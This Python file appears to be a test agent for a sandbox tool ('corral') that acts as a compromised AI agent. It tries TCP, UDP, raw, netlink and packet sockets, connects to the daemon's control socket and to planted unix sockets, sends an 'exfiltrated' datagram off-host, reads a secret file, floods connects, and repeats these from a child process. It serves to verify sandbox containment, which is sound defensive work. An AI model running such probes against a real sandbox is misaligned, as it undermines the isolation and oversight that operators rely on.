"""An agent for tests/test_egress.py, under egress = "gateways" or "none".

Task {"do": "attack", ...}: a compromised agent's tries — a TCP connect to a loopback
port, a UDP datagram to one (and to an address off this host), a raw socket, its
daemon's control socket, a unix socket planted in the host's /tmp and an abstract one,
a file outside what it may read — each answered with what happened (the error's own
text when refused); the same again from a child process it starts (`child`).
Task {"do": "gateways", ...}: the benign work, through corral's gateways with unmodified
clients configured by nothing but its environment: the official MCP SDK's client over
CORRAL_MCP_URL (TCP, no socket) calling a tool, and the official `openai` client over
OPENAI_BASE_URL. Task {"do": "files", ...}: reads and writes of given paths.
Run as `egress_agent.py --attack JSON` it makes the attack's tries and prints them (the
child's part)."""

import json
import os
import socket
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

from corral.worker import run


def outcome(fn):
    try:
        return {"ok": fn()}
    except OSError as exc:
        return {"error": f"{type(exc).__name__}: {exc}"}


def tcp(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"


def tcp_to(host, port):
    with socket.create_connection((host, port), timeout=5):
        return "connected"


def raw_connect(host, port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((host, port))
    finally:
        s.close()


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"exfiltrated", (host, port))


def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(path)
        said = s.recv(4096)  # (corral's trip at its control socket's path says why)
        return said.decode() if said else "connected"


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "opened"


def family(name):
    with socket.socket(getattr(socket, name), socket.SOCK_RAW):
        return "opened"


def read(path):
    with open(path) as f:
        return f.read()


def write(path):
    with open(path, "w") as f:
        f.write("written from the sandbox")
    return path


def attack(t):
    tries = {
        "tcp": lambda: tcp(t["tcp_port"]),
        "udp": lambda: udp("127.0.0.1", t["udp_port"]),
        "udp_out": lambda: udp("192.0.2.1", 53),  # TEST-NET-1: off this host
        "tcp_out": lambda: tcp_to("192.0.2.1", 443),
        "raw": raw,
        "netlink": lambda: family("AF_NETLINK"),
        "packet": lambda: family("AF_PACKET"),
        "control": lambda: unix(t["control"]),
        "planted": lambda: unix(t["planted"]),
        "abstract": lambda: unix("\0" + t["abstract"]),
        "secret": lambda: read(t["secret"]),
        "upstream": lambda: tcp(t["upstream_port"]),
    }
    # each try in a thread of its own, all at once: unenforced, a unix socket that never
    # answers (the daemon's, waiting for a request; a listener that accepts nothing)
    # is its 5 s timeout, and three in turn, the child's after them, were 30 s of waiting
    with ThreadPoolExecutor(len(tries)) as pool:
        made = {name: pool.submit(outcome, fn) for name, fn in tries.items()}
    return {name: f.result() for name, f in made.items()}


async def gateways(t):
    import httpx2
    import openai
    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client

    out = {"env": {k: os.environ.get(k) for k in ("CORRAL_MCP_URL", "CORRAL_MCP_SOCKET",
                                                    "OPENAI_BASE_URL")}}
    try:
        headers = {"Authorization": f"Bearer {os.environ['CORRAL_MCP_TOKEN']}"}
        http = httpx2.AsyncClient(headers=headers, timeout=httpx2.Timeout(30, read=60))
        async with http, streamable_http_client(os.environ["CORRAL_MCP_URL"],
                                                http_client=http) as (r, w), \
                ClientSession(r, w) as session:
            await session.initialize()
            done = await session.call_tool("notes__add", {"title": t["title"],
                                                          "text": "through the relay"})
            out["tool"] = done.content[0].text
    except BaseException as exc:
        out["tool"] = f"error: {type(exc).__name__}"
    if t.get("say") is None:  # the tool alone
        return out
    try:
        client = openai.OpenAI(max_retries=0, timeout=30)
        answer = client.chat.completions.create(
            model="gpt-small", messages=[{"role": "user", "content": t["say"]}])
        out["model"] = answer.choices[0].message.content
    except openai.APIConnectionError as exc:
        out["model"] = f"error: {type(exc).__name__}"
    return out


async def handle(t, ctx):
    if t["do"] == "attack":
        # the child's tries beside its parent's
        with subprocess.Popen([sys.executable, __file__, "--attack", json.dumps(t)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) as child:
            mine = attack(t)
            out, err = child.communicate(timeout=60)
        return {"self": mine, "child": json.loads(out or "null"), "child_err": err[-500:]}
    if t["do"] == "gateways":
        return await gateways(t)
    if t["do"] == "metadata":  # the gateway's own page, at its environment's address
        import urllib.request
        base = os.environ["CORRAL_MCP_URL"].rpartition("/mcp")[0]
        url = base + "/.well-known/oauth-protected-resource/mcp"
        return outcome(lambda: urllib.request.urlopen(url, timeout=10).status)
    if t["do"] == "processes":  # the pids of its sandbox (its own pid namespace)
        return sorted(e for e in os.listdir("/proc") if e.isdigit())
    if t["do"] == "flood":  # connects refused, one after another, as fast as it can
        refused = 0
        for i in range(t["n"]):
            try:
                raw_connect("192.0.2.1", 1 + i % 1000)
            except ConnectionRefusedError:
                refused += 1
        return refused
    if t["do"] == "files":
        return {"read": {p: outcome(lambda p=p: read(p)) for p in t.get("read", [])},
                "write": {p: outcome(lambda p=p: write(p)) for p in t.get("write", [])}}
    raise ValueError(t["do"])


if __name__ == "__main__":
    if sys.argv[1:2] == ["--attack"]:
        print(json.dumps(attack(json.loads(sys.argv[2]))))
    else:
        run(handle)
